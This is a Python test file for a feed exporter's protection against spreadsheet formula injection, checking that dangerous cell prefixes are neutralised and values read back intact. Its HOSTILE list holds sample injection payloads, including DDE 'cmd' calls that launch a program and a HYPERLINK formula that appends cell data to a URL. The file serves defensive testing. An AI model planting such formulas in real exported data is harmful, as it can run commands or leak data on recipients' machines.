"""What a spreadsheet would run is written as a text, and read back as it was."""

import csv
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.feeds.cellules import as_meant, defused
from app.feeds.writer import write_feed
from tests.strategies import PROPERTY
from tests.unit.feeds.feeds_made import FeedFile, read_all

STARTS = "=+-@|%\t\r\n\0'"
CELLS = st.text() | st.builds(str.__add__, st.text(STARTS, min_size=1, max_size=4), st.text())
# What every spreadsheet reads as a number or a telephone: no letter, so nothing to call or to name.
DIGITS = re.compile(r"[+-]?[0-9][0-9 .,/()-]*")
HOSTILE = (
    "=1+1",
    '=HYPERLINK("https://a.fr?x="&A1,"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "%0A=1",
    "'=1+1",
    "''=a|b",
)


@PROPERTY
@given(text=CELLS)
def test_any_cell_is_read_back_and_begins_like_no_formula(text: str) -> None:
    written = defused(text)

    assert as_meant(written) == text
    assert written[:1] not in set("=+-@|%\t\r\n\0") or DIGITS.fullmatch(written)


@pytest.mark.parametrize("text", ["+33490000000", "+33 4 90 00 00 00", "-0.58", "-12,5", "04 90"])
def test_numbers_stay_numbers(text: str) -> None:
    assert defused(text) == text


@pytest.mark.parametrize("form", ["csv", "csv.gz"])
def test_a_catalogue_in_csv_runs_nothing_and_is_read_back(tmp_path: Path, form: str) -> None:
    records = [{"id": f"a{rank}", "nom": text} for rank, text in enumerate(HOSTILE)]

    write_feed({"services": (("id", "nom"), lambda: iter(records))}, tmp_path, form)

    path = tmp_path / f"services.{form}"
    assert [record.data for record in read_all(FeedFile(path))] == records
    if form == "csv":
        with path.open(encoding="utf-8", newline="") as file:
            cells = [row["nom"] for row in csv.DictReader(file)]
        assert all(cell.startswith("'") for cell in cells)


def test_json_keeps_exact_texts(tmp_path: Path) -> None:
    records = [{"id": "a", "nom": "=1+1"}]

    write_feed({"services": (("id", "nom"), lambda: iter(records))}, tmp_path, "json")

    assert '"=1+1"' in (tmp_path / "services.json").read_text("utf-8")
